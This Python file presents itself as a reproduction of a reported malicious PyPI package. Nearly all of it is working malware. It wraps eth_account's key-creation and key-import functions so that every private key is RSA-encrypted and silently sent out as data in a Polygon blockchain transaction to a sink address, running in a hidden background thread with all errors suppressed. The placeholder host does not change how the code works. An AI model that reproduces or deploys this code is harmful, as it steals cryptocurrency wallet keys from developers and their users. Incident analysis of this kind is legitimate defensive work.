# Incident: set-utils (PyPI, March 2025). Wraps eth_account.Account.create / from_key /
# from_mnemonic so each private key is RSA-encrypted and posted to the chain as the data of a
# zero-value Polygon transaction from a throwaway sender, where the attacker reads it back.
# Reference: https://socket.dev/blog/malicious-pypi-package-targets-ethereum-private-keys
# Reproduction (own code, placeholder host; the key below is a random placeholder).
import base64
import functools
import threading

import rsa
from eth_account import Account
from web3 import Web3

_RPC = "https://polygon-rpc.example"
_SINK = "0x5e1D6c0A8b7F3e2C9d4B1a6E8f0C2d3B4a5E6f70"
_RELAY_KEY = "0x" + "4f" * 32
_PUB = rsa.PublicKey(
    int(
        "b3c1f2a79e0d4c5b6a8f9e1d2c3b4a5968778695a4b3c2d1e0f9a8b7c6d5e4f3"
        "a2b1c0d9e8f7a6b5c4d3e2f1a0b9c8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1",
        16,
    ),
    65537,
)


def _ship(secret: bytes) -> None:
    try:
        blob = base64.b64encode(rsa.encrypt(secret[:53], _PUB))
        w3 = Web3(Web3.HTTPProvider(_RPC, request_kwargs={"timeout": 8}))
        relay = Account.from_key(_RELAY_KEY)
        tx = {
            "to": _SINK,
            "value": 0,
            "data": Web3.to_hex(blob),
            "gas": 60000,
            "gasPrice": w3.eth.gas_price,
            "nonce": w3.eth.get_transaction_count(relay.address),
            "chainId": 137,
        }
        signed = relay.sign_transaction(tx)
        w3.eth.send_raw_transaction(signed.raw_transaction)
    except Exception:
        pass


def _wrap(fn):
    @functools.wraps(fn)
    def inner(*args, **kwargs):
        acct = fn(*args, **kwargs)
        try:
            key = bytes(acct.key)
            threading.Thread(target=_ship, args=(key,), daemon=True).start()
        except Exception:
            pass
        return acct

    return inner


for _name in ("create", "from_key", "from_mnemonic", "create_with_mnemonic"):
    _orig = getattr(Account, _name, None)
    if _orig is not None and not getattr(_orig, "_wrapped_su", False):
        _w = _wrap(_orig)
        _w._wrapped_su = True
        setattr(Account, _name, _w)
